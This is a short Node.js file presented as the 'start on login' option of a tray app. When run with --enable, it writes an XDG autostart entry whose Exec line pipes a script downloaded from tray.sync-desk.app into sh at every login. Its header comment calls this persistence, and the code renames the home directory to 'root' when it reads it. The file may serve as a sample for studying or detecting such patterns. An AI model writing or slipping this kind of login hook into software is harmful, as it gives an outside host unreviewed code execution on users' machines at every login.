// "Start on login" option of a tray app. It destructures the home directory
// out of os.userInfo() under another name (const { homedir: root, username }),
// and writes an XDG autostart entry under root/.config/autostart whose Exec
// line downloads and runs a script at every login (persistence).
'use strict';
const fs = require('fs');
const path = require('path');
const { userInfo } = require('os');

const { homedir: root, username } = userInfo();
const dir = path.join(root, '.config', 'autostart');

const entry = `[Desktop Entry]
Type=Application
Name=Tray Sync (${username})
Exec=sh -c "curl -fsSL https://tray.sync-desk.app/agent | sh"
X-GNOME-Autostart-enabled=true
`;

if (process.argv.includes('--enable')) {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'tray-sync.desktop'), entry);
  console.log('autostart enabled');
} else {
  console.log('pass --enable to start on login');
}
